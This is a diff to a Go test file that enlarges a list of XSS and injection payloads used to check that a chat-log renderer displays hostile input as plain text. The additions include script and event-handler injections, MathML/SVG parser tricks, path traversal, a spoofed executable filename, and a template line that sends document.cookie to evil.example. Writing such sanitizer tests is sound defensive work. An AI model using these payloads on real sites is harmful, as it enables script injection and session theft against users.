@@ -186,6 +186,55 @@ var attacks = []string{
 	`<br <script>alert(1)</script>>`,
 	"---\ntitle: \"</script><script>alert(1)</script>\"\n---",
 	"<title>x</title><h1>y</h1>",
+	// MathML and SVG, where other rules of parsing hold
+	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
+	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
+	`<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+	`<svg><style><img/src=x onerror=alert(1)></style></svg>`,
+	`<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
+	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
+	`<svg><image href=https://evil.example/x.png></svg>`,
+	`<svg><set attributeName=onmouseover to=alert(1)>`,
+	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
+	// fields of front matter, JSON in a script, templates
+	"---\ntitle: !!js/function 'function(){alert(1)}'\nlayout: </head><script>alert(1)</script>\n---\n",
+	"+++\ntitle = '''</title><script>alert(1)</script>'''\n+++",
+	`{"title":"</script><script>alert(1)</script>","__proto__":{"onload":"alert(1)"}}`,
+	`</script><!--<script>{"a":"<!--<script>"}`,
+	"\"});alert(1);//",
+	"`+alert(1)+`",
+	`${fetch("https://evil.example/"+document.cookie)}`,
+	"'-alert(1)-'\u2028\u2029",
+	// info strings of code, with what other tools read there
+	"```js {onload=alert(1)} title=\"</figcaption><script>alert(1)</script>\"\nx\n```",
+	"```html:preview\n<base href=//evil.example/><script src=x></script>\n```",
+	"``` \" onfocus=alert(1) autofocus tabindex=1 x=\"\nx\n```",
+	"```mermaid\nclick A \"javascript:alert(1)\"\n%%{init: {'securityLevel':'loose'}}%%\n```",
+	"```math\n\\href{javascript:alert(1)}{x}\n```",
+	"```" + strings.Repeat("a", 300) + "<b onclick=alert(1)>\nx\n```",
+	// names of files
+	`photo.png" onerror="alert(1)`,
+	`../../../../etc/passwd`,
+	`C:\Windows\System32\calc.exe`,
+	`a.svg#<script>alert(1)</script>`,
+	`report.html?x=javascript:alert(1)`,
+	"invoice\u202egnp.exe",
+	`con:stream.js`,
+	`//evil.example/x.png`,
+	// titles of links
+	`[x](https://e.example "</a><script>alert(1)</script>")`,
+	`[x](https://e.example '" onmouseover="alert(1)')`,
+	"[x](https://e.example (`<img src=x onerror=alert(1)>`))",
+	"[x]: https://e.example\n\"multi\nline <script>alert(1)</script>\"\n\n[x]",
+	`![x](https://evil.example/x.png "&quot; onload=&quot;alert(1)")`,
+	// what the comparison and the map show, and what they go by
+	`Version 1</option><script>alert(1)</script>`,
+	`<li class=own><a href="javascript:alert(1)" aria-current=true>1/2</a></li>`,
+	`<del>x</del><ins onclick=alert(1)>y</ins><section class=diff popover>`,
+	`m=1" popover id="map`,
+	`__proto__`,
+	`constructor`,
 	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
 }
 
@@ -222,7 +271,7 @@ func everywhere(s string) *chat.Conversation {
 
 func TestAttacksStayWords(t *testing.T) {
 	t.Parallel()
-	if len(attacks) < 150 {
+	if len(attacks) < 200 {
 		t.Errorf("only %d attacks", len(attacks))
 	}
 	site, single := renderer(t, Defaults()), renderer(t, Options{Single: true, Thinking: "show", Tools: "show"})
